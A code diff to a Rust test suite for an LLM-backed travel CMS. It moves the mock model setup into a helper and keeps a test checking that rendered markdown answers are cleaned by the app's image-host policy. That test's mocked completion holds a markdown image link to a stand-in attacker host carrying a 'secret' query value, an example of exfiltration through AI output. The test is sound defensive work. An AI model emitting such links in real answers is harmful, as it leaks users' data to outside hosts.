@@ -29,15 +29,21 @@ async fn app_with(llm: &MockServer, extra: &[(&str, &str)]) -> TestApp {
     TestApp::sqlite_with(&settings).await
 }
 
-/// A model that gives `answer` to every completion, the app that uses it, and an editor's
-/// token.
-async fn editor_with_model(answer: ResponseTemplate) -> (MockServer, TestApp, String) {
+/// A model that gives `answer` to every completion.
+async fn model(answer: ResponseTemplate) -> MockServer {
     let llm = MockServer::start().await;
     Mock::given(method("POST"))
         .and(path("/chat/completions"))
         .respond_with(answer)
         .mount(&llm)
         .await;
+    llm
+}
+
+/// A model that gives `answer` to every completion, the app that uses it, and an editor's
+/// token.
+async fn editor_with_model(answer: ResponseTemplate) -> (MockServer, TestApp, String) {
+    let llm = model(answer).await;
     let app = app_with(&llm, &[]).await;
     let (_, token) = app.user("editor@example.com", "editor").await;
     (llm, app, token)
@@ -410,15 +416,11 @@ async fn a_hung_upstream_answers_upstream_timeout_within_the_request_deadline() 
 /// the answer rendered to.
 #[tokio::test]
 async fn markdown_answers_are_rendered_and_cleaned_by_the_apps_policy() {
-    let llm = MockServer::start().await;
-    Mock::given(method("POST"))
-        .and(path("/chat/completions"))
-        .respond_with(completion(
-            "## Gold Souk\n\n**Open daily.** ![tracker](https://evil.example/y?q=secret) \
-             ![Souk](https://cdn.travelcms.example/souk.jpg)",
-        ))
-        .mount(&llm)
-        .await;
+    let llm = model(completion(
+        "## Gold Souk\n\n**Open daily.** ![tracker](https://evil.example/y?q=secret) \
+         ![Souk](https://cdn.travelcms.example/souk.jpg)",
+    ))
+    .await;
     let app = app_with(&llm, &[("IMAGE_HOSTS", "cdn.travelcms.example")]).await;
     let (_, token) = app.user("editor@example.com", "editor").await;
     let id = create_hotel(&app, &token, "Gold Souk Hotel").await["id"]
